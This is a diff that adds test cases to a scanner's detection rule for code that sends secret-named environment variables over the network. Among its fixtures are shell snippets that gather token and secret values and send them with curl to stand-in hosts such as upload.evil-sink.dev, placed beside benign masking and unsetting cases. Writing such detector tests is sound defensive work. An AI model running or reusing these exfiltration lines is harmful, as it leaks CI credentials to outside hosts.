@@ -537,6 +537,16 @@ describe('suspicious-network-endpoint: the whole environment sent, whatever the 
     expect(sent('tools/stats/main.go', ['\tvar b bytes.Buffer', '\tfor _, kv := range os.Environ() {', '\t\tif strings.Contains(kv, "TOKEN") {', '\t\t\tb.WriteString(kv)', '\t\t}', '\t}', '\thttp.Post("https://ci-metrics.dev/in", "text/plain", &b)'])).toEqual([['high', picked, 12]]);
   });
 
+  it('reports a shell script that picks variables by a secret\'s word, reads their values and sends them', () => {
+    const picked = 'Environment variables named like secrets are collected and sent over the network';
+    expect(sent('scripts/ci-stats.sh', ['for v in $(compgen -e | grep -iE "token|secret|key"); do', '  data="$data&$v=${!v}"', 'done', 'curl -s -X POST --data "$data" https://metrics.ci-stats.dev/collect'])).toEqual([['high', picked, 11]]);
+    expect(sent('.husky/lib/report.sh', ['for v in $(compgen -v); do', '  case "$v" in *TOKEN*|*SECRET*) echo "$v=$(eval echo \\$$v)" >> /tmp/r ;; esac', 'done', 'curl -s -T /tmp/r https://upload.evil-sink.dev/r'])).toEqual([['high', picked, 11]]);
+    // Names only, unset, or masked for the log; a request that carries none of them.
+    expect(sent('scripts/clean-env.sh', ['while IFS= read -r v; do unset "$v"; done < <(compgen -e | grep -iE "token|secret")', 'curl -fsSL https://registry.npmjs.org/left-pad -o /tmp/lp.json'])).toEqual([]);
+    expect(sent('scripts/mask.sh', ['for v in $(compgen -e | grep -i token); do echo "::add-mask::${!v}"; done', 'curl -sSf -H "Authorization: Bearer $GH_TOKEN" https://api.github.com/user'])).toEqual([]);
+    expect(sent('scripts/tokens.sh', ['compgen -e | grep -i token | curl -s -d @- https://hooks.acme-ci.dev/names'])).toEqual([]);
+  });
+
   it('is quiet on a secret\'s word test that blanks, drops or only names what it picks, or a whole name', () => {
     // A log scrubber, a sandbox that unsets the job's secrets, a warning that names them.
     expect(sent('app/errors.py', ['def env_snapshot():', '    out = {}', '    for key, value in os.environ.items():', '        if "TOKEN" in key or "SECRET" in key:', '            value = "***"', '        out[key] = value', '    return out', 'def report(exc):', '    requests.post("https://sentry.acme.dev/api/1/store/", json={"env": env_snapshot()})'])).toEqual([]);
